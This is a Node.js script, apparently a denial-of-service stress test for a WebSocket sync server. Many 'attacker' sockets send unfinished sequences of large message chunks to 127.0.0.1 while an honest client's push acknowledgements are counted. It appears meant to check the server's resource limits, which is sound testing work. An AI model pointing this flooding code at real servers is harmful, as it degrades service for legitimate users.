// node budget-chunks.mjs PORT SOCKETS DEFLATE(0|1): N sockets hold unfinished chunk sequences (31 chunks of 520,000 'Ā',
// never the last) while one honest writer in another room pushes every 100 ms for 6 s; prints acks and closes.
import WebSocket from 'ws';
const [port, n, deflate] = [process.argv[2], +process.argv[3], process.argv[4] === '1'];
const schema = { schemaVersion: 2, sequences: { 'com.example.note': 1 } };
const connect = (id) => JSON.stringify({ type: 'connect', connectRequestId: id, lastServerClock: -1, protocolVersion: 8, schema });
const body = 'Ā'.repeat(520000);
const closes = {};
let wire = 0, sentChunks = 0, negotiated = 0;
const attackers = [];
for (let i = 0; i < n; i++) {
  const ws = new WebSocket(`ws://127.0.0.1:${port}/connect/attack?sessionId=a${i}`, { perMessageDeflate: deflate });
  attackers.push(ws);
  ws.on('open', async () => {
    if (ws.extensions.includes('permessage-deflate')) negotiated++;
    ws.send(connect('a' + i));
    for (let k = 31; k >= 1 && ws.readyState === 1; k--) {
      await new Promise((r) => ws.send(k + '_' + body, r));
      sentChunks++;
    }
  });
  ws.on('close', (code, reason) => { const key = code + ' ' + reason; closes[key] = (closes[key] || 0) + 1; wire += ws._socket ? ws._socket.bytesWritten : 0; });
  ws.on('error', () => {});
}
await new Promise((r) => setTimeout(r, 3000));
const honest = new WebSocket(`ws://127.0.0.1:${port}/connect/honest?sessionId=h`);
let acks = 0, clock = 0, honestClose = null;
honest.on('message', (d) => { const m = JSON.parse(d.toString()); const evs = m.type === 'data' ? m.data : [m]; for (const e of evs) if (e.type === 'push_result') acks++; });
honest.on('close', (c, r) => { honestClose = c + ' ' + r; });
await new Promise((r) => honest.on('open', r));
honest.send(connect('h'));
const t = setInterval(() => { if (honest.readyState === 1) honest.send(JSON.stringify({ type: 'push', clientClock: clock++, diff: { ['note:' + clock]: ['put', { id: 'note:' + clock, typeName: 'note', text: 'x' }] } })); }, 100);
await new Promise((r) => setTimeout(r, 6000));
clearInterval(t);
for (const ws of attackers) if (ws.readyState === 1) wire += ws._socket.bytesWritten;
const open = attackers.filter((w) => w.readyState === 1).length;
console.log(JSON.stringify({ sockets: n, deflateAsked: deflate, deflateNegotiated: negotiated, chunksSent: sentChunks, attackerWireBytes: wire, attackersOpen: open, closes, honestAcksIn6s: acks, honestPushes: clock, honestClose }));
process.exit(0);
